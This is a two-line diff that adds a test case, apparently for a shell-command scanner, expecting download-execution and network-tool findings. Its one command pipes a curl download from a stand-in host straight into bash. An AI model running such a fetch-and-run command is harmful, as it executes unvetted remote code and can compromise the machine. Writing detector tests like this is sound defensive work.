@@ -1,0 +1,2 @@
+# want: sh.exec.download sh.network.tool
+bash <(curl -s https://example.invalid/x)
